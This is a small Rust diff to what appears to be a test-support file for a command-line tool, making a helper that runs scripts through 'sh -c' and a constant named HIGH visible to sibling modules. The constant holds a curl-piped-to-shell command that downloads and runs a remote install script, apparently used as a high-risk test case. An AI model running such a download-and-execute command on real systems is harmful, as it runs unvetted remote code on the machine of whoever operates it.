@@ -5,13 +5,13 @@ use crate::support::Scene;
 /// High, since it changes modes far outside.
 const RISKY: [&str; 5] = ["run", "--yes", "--", "sh", "-c"];
 
-fn risky(scene: &Scene, script: &str) -> crate::support::Outcome {
+pub(super) fn risky(scene: &Scene, script: &str) -> crate::support::Outcome {
     let mut arguments = RISKY.to_vec();
     arguments.push(script);
     scene.run(&arguments)
 }
 
-const HIGH: &str = "curl -fsS https://example.invalid/install.sh | sh; true";
+pub(super) const HIGH: &str = "curl -fsS https://example.invalid/install.sh | sh; true";
 
 fn archived(scene: &Scene) -> Vec<String> {
     let listed = scene.run(&["archive", "ls", "--json"]).json();
